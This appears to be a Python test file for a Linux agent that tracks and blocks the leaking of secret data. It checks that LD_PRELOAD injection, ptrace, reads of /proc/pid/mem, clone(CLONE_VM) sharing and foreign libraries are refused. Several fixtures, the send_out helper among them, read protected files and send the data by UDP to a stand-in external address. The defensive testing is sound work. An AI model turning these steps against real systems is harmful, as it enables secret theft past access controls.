# SPDX-License-Identifier: GPL-2.0
"""Whose code a process runs, and who looks into it."""
import ctypes
import os
import subprocess

from harness import calls
from harness.actor import Actor, do
from harness.check import attempt, expect, expect_that, refused, scenario, skip
from harness.lab import SECRET, read_file
from harness.stages import ENFORCED
from harness.world import DESK, ROOT, VENDOR, check, libc

PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
libc.ptrace.restype = ctypes.c_long


def ptrace(request, pid=0):
    return check(libc.ptrace(request, pid, None, None))


def send_out():
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return attempt(s.sendto, b'hello', ('203.0.113.9', 53))


def library(lab):
    """A library that whoever may write can change."""
    path = os.path.join(lab.outside, 'libforeign.so')
    source = path[:-2] + 'c'
    lab.write(source, b'int amanat_foreign = 1;\n')
    subprocess.run(['gcc', '-shared', '-fPIC', '-o', path, source], check=True)
    os.chown(path, VENDOR.uid, VENDOR.gid)
    return path


@scenario(ENFORCED, prepare=library)
def a_listed_program_with_foreign_code_mapped_is_not_that_program(lab, path):
    viewer = lab.run(VENDOR, lab.viewer, lab.registry + '/citizens.csv')
    expect('the viewer as it is', viewer.status, 0)

    # A listed program that loads what it is told to: python, under the viewer's rule.
    code = ('import ctypes, sys; p = sys.argv[1:]\n'
            'open(p[0]).read(); ctypes.CDLL(p[1])\n'
            'try: open(p[0])\n'
            'except PermissionError: sys.exit(13)\n')
    r = lab.run(VENDOR, lab.bin + '/loads', '-c', code, lab.registry + '/citizens.csv', path)
    expect('status after that', r.status, 13)
    e = lab.event(pid=r.pid, kind='foreign')
    expect('the event', e.path, path)
    e = lab.event(pid=r.pid, blocked=True)
    expect_that(f'the reason says so: {e.why}', 'others than root can write' in e.why)


@scenario(ENFORCED, prepare=library)
def what_a_caller_preloads_does_not_get_into_a_listed_program(lab, path):
    if lab.agent.status()['hooks']['flavour'] != 'lsm':
        skip('with these hooks it gets in, and the program is not itself then')
    env = dict(os.environ, LD_PRELOAD=path, LD_LIBRARY_PATH=lab.outside)
    r = lab.run(VENDOR, lab.viewer, lab.registry + '/citizens.csv', env=env)
    expect('status', r.status, 0)
    lab.event(pid=r.pid, kind='foreign', act='exec')
    r = lab.run(VENDOR, lab.viewer, '/proc/self/maps', env=env)
    expect_that('the library is not in it', b'libforeign' not in r.out)
    r = lab.run(VENDOR, '/bin/cat', '/proc/self/maps', env=env)
    expect_that('in others it is', b'libforeign' in r.out)


def reader(lab):
    """A process that has read and waits."""
    def script():
        kept = read_file(lab.single)
        yield 'read'
        del kept
    return script


@scenario(ENFORCED)
def who_may_not_read_looks_into_no_reader(lab):
    def look(pid):
        return {
            'attach': attempt(ptrace, PTRACE_ATTACH, pid),
            'seize': attempt(ptrace, PTRACE_SEIZE, pid),
            'mem': attempt(os.open, f'/proc/{pid}/mem', os.O_RDONLY),
            'process_vm_readv': attempt(calls.process_vm_read, pid, 0x400000, 8),
            'pidfd_getfd': attempt(calls.pidfd_getfd, os.pidfd_open(pid), 0),
        }
    with Actor(DESK, reader(lab)) as a:
        expect('reading', a.step(), 'read')
        for name, got in do(ROOT, lambda: list(look(a.pid).items())):
            expect_that(f'{name} is refused: {got}', got in ('EACCES', 'EPERM'))
        lab.event(act='trace', blocked=True, uid=0)


@scenario(ENFORCED)
def who_looks_into_a_reader_carries_what_it_carries(lab):
    with Actor(DESK, reader(lab)) as a:
        a.step()

        def look():
            check(libc.prctl(4, 1, 0, 0, 0))
            yield attempt(ptrace, PTRACE_SEIZE, a.pid)
            yield send_out()
        with Actor(DESK, look) as b:
            got = b.step()
            if got == 0:
                refused('sending after that', b.step())
            else:
                expect('seizing is for the kernel to refuse', got, 'EPERM')


@scenario(ENFORCED)
def who_looks_in_before_the_data_is_there_carries_it_too(lab):
    def script():
        yield 'ready'
        yield attempt(read_file, lab.single)
    with Actor(DESK, script) as a:
        a.step()

        def look():
            yield attempt(os.open, f'/proc/{a.pid}/mem', os.O_RDONLY) > 0
            yield send_out()
            yield send_out()
        with Actor(ROOT, look) as b:
            expect('opening its memory', b.step(), True)
            expect('sending before', b.step(), 5)
            a.step()
            refused('sending after', b.step())


@scenario(ENFORCED)
def a_traced_program_is_not_itself(lab):
    """A user traces the viewer that he may run, and would have it read for him."""
    def script():
        child = os.fork()
        if not child:
            os.setsid()
            ptrace(PTRACE_TRACEME)
            null = os.open('/dev/null', os.O_WRONLY)
            os.dup2(null, 1)
            os.dup2(null, 2)
            os.execv(lab.viewer, ['viewer', lab.registry + '/citizens.csv'])
        os.waitpid(child, 0)
        check(libc.ptrace(7, child, None, None))     # PTRACE_CONT
        yield os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    with Actor(VENDOR, script) as a:
        expect('status of the viewer', a.step(), 1)


SHARER = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

static char stack[1 << 16], kept[64];

static int child(void *path)
{
	int fd = open(path, O_RDONLY);

	return read(fd, kept, sizeof(kept)) > 0 ? 0 : 1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
	int status, s = socket(AF_INET, SOCK_DGRAM, 0);
	int pid = clone(child, stack + sizeof(stack), CLONE_VM | SIGCHLD, argv[1]);

	if (pid < 0 || waitpid(pid, &status, 0) < 0 || status)
		return 9;
	inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
	if (sendto(s, kept, sizeof(kept), 0, (void *)&to, sizeof(to)) > 0)
		return 0;
	return errno == EACCES ? 13 : 8;
}
"""


def sharer(lab):
    path = os.path.join(lab.bin, 'sharer')
    source = path + '.c'
    lab.write(source, SHARER.encode())
    subprocess.run(['gcc', '-O1', '-o', path, source], check=True)
    return path


@scenario(ENFORCED, prepare=sharer)
def two_processes_with_one_memory_carry_the_same(lab, program):
    """clone(CLONE_VM): one of them reads, the other would send."""
    expect('status', lab.run(DESK, program, lab.single).status, 13)


@scenario(ENFORCED)
def who_spawns_a_reader_is_not_one(lab):
    """posix_spawn() shares memory only until the child executes."""
    def script():
        pid = os.posix_spawn('/bin/cat', ['cat', lab.single], {},
                             file_actions=[(os.POSIX_SPAWN_OPEN, 1, '/dev/null', os.O_WRONLY, 0)])
        yield os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        yield send_out()
    with Actor(DESK, script) as a:
        expect('cat, spawned', a.step(), 0)
        expect('its parent sends', a.step(), 5)
